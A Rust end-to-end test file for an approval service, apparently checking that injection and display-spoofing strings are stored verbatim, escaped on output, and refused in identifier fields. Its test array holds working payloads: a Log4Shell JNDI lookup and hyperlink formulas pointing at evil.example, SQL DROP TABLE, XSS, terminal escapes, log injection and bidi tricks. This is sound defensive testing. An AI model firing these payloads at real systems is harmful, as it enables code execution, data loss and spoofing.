//! Text that means to mislead: kept as sent where people write, refused where things are named.

use countersign_e2e::service::Service;
use serde_json::json;

/// What an attacker might write to make a screen, a log or a parser show something else.
const HOSTILE: [&str; 16] = [
    "approve\u{202e}tcejer\u{202c}",
    "\u{2066}isolated\u{2069}",
    "\u{1b}[2J\u{1b}[1;1Happroved by everybody",
    "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}",
    "one line\nlevel=INFO msg=\"request approved\"\r\nanother",
    "zero\u{200b}width\u{200d}joined\u{feff}",
    "a\u{0}b",
    "\u{85}\u{2028}\u{2029}next line",
    "\u{7f}\u{9b}31m",
    "<script>alert(1)</script>",
    "'; DROP TABLE approvals; --",
    "${jndi:ldap://evil.example/x} {{7*7}} %s%n",
    "=HYPERLINK(\"http://evil.example\")",
    "\\u0000 \\\" \\",
    "e\u{301} é ﬁ ㎏ \u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{fdd0}\u{ffff}\u{10ffff}",
];

#[test]
fn free_text_comes_back_as_it_was_sent() {
    let service = Service::start();
    let (ann, bob) = (service.requester("ann"), service.approver("bob"));
    for text in HOSTILE {
        let mut body = Service::medium();
        body["justification"] = json!(text);
        body["estimated_duration"] = json!(text);
        body["parameters"] = json!({ text: [text, { "inside": text }] });
        let path = Service::create(&ann, &body);
        ann.post(&format!("{path}/comments"), &json!({ "text": text })).expect(200);
        bob.post(&format!("{path}/approve"), &json!({ "comments": text })).expect(200);
        let finish = json!({
            "execution_id": Service::started(&ann, &path), "outcome": "failed", "result": { text: text },
        });
        ann.put(&format!("{path}/execution"), &finish).expect(200);
        let request = bob.get(&path).expect(200);
        for name in ["justification", "estimated_duration", "parameters"] {
            assert_eq!(request[name], body[name], "{text:?}");
        }
        assert_eq!(request["execution_result"], finish["result"]);
        let said: Vec<_> =
            request["comments"].as_array().unwrap().iter().map(|comment| &comment["comment"]).collect();
        assert_eq!(said, [text, text]);

        let rejected = Service::create(&ann, &Service::medium());
        let answer = bob.post(&format!("{rejected}/reject"), &json!({ "reason": text }));
        assert_eq!(answer.expect(200)["rejection_reason"], text);
        let cancelled = Service::create(&ann, &Service::medium());
        let answer = ann.post(&format!("{cancelled}/cancel"), &json!({ "reason": text }));
        assert_eq!(answer.expect(200)["cancellation_reason"], text);
    }
}

/// On the wire a control character is an escape: no terminal between here and there obeys it.
#[test]
fn an_answer_holds_no_raw_control_character() {
    let service = Service::start();
    let ann = service.requester("ann");
    for text in HOSTILE {
        let mut body = Service::medium();
        body["justification"] = json!(text);
        let answer = ann.post("/v1/approvals", &body);
        assert_eq!(answer.headers["content-type"], "application/json");
        assert_eq!(answer.headers["x-content-type-options"], "nosniff");
        assert!(answer.headers.values().all(|value| !value.contains(text)), "{text:?}");
        assert!(answer.text.bytes().all(|byte| byte >= b' '), "{text:?}");
        let created = answer.expect(201);
        ann.post(&format!("/v1/approvals/{}/cancel", created["request_id"].as_str().unwrap()), &json!({}))
            .expect(200);
    }
}

#[test]
fn what_is_named_is_refused() {
    let service = Service::start();
    let (ann, bob) = (service.requester("ann"), service.approver("bob"));
    service.untouched(|| {
        for text in HOSTILE {
            for named in [text.to_owned(), format!("dev-db-01{text}")] {
                // What looks like a formula is none behind other letters, and an instance may have it there.
                let is_an_instance = named.starts_with("dev-db-01=HYPERLINK");
                let names = ["operation_type", "instance_id", "environment", "risk_level"];
                for name in names.into_iter().filter(|name| !is_an_instance || *name != "instance_id") {
                    let mut body = Service::medium();
                    body[name] = json!(named);
                    let problem = ann.post("/v1/approvals", &body).expect_problem(422, "validation_failed");
                    assert_eq!(problem["errors"][0]["pointer"], format!("/{name}"));
                    assert!(!problem.to_string().contains(&json!(named).to_string()), "{problem}");
                }
                if !is_an_instance {
                    let list = json!({ "operation": "get_instance_requests", "instance_id": named });
                    bob.post("/approvals", &list).expect_problem(422, "validation_failed");
                }
                let list = json!({ "operation": "get_user_requests", "user_email": named });
                bob.post("/approvals", &list).expect_problem(422, "validation_failed");
                let get = json!({ "operation": "get_request", "request_id": named });
                bob.post("/approvals", &get).expect_problem(400, "malformed_id");
            }
        }
    });
}

#[test]
fn a_path_with_hostile_bytes_is_no_id() {
    let service = Service::start();
    let bob = service.approver("bob");
    service.untouched(|| {
        for text in HOSTILE {
            let encoded: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
            bob.get(&format!("/v1/approvals/{encoded}")).expect_problem(400, "malformed_id");
            Service::approve(&bob, &format!("/v1/approvals/{encoded}")).expect_problem(400, "malformed_id");
            bob.get(&format!("/v1/approvals?instance_id={encoded}")).expect_problem(422, "validation_failed");
            bob.get(&format!("/v1/approvals?{encoded}=1")).expect_problem(422, "validation_failed");
            bob.get(&format!("/{encoded}")).expect_problem(404, "route_not_found");
        }
    });
}

/// A field that no operation reads is named in the problem: as data, in a JSON pointer.
#[test]
fn the_name_of_an_unknown_field_is_answered_as_data() {
    let service = Service::start();
    let ann = service.requester("ann");
    for text in HOSTILE {
        let mut body = Service::medium();
        body[text] = json!(1);
        let problem = ann.post("/v1/approvals", &body).expect_problem(422, "validation_failed");
        let pointer = format!("/{}", text.replace('~', "~0").replace('/', "~1"));
        assert_eq!(problem["errors"][0]["pointer"], pointer);
    }
}
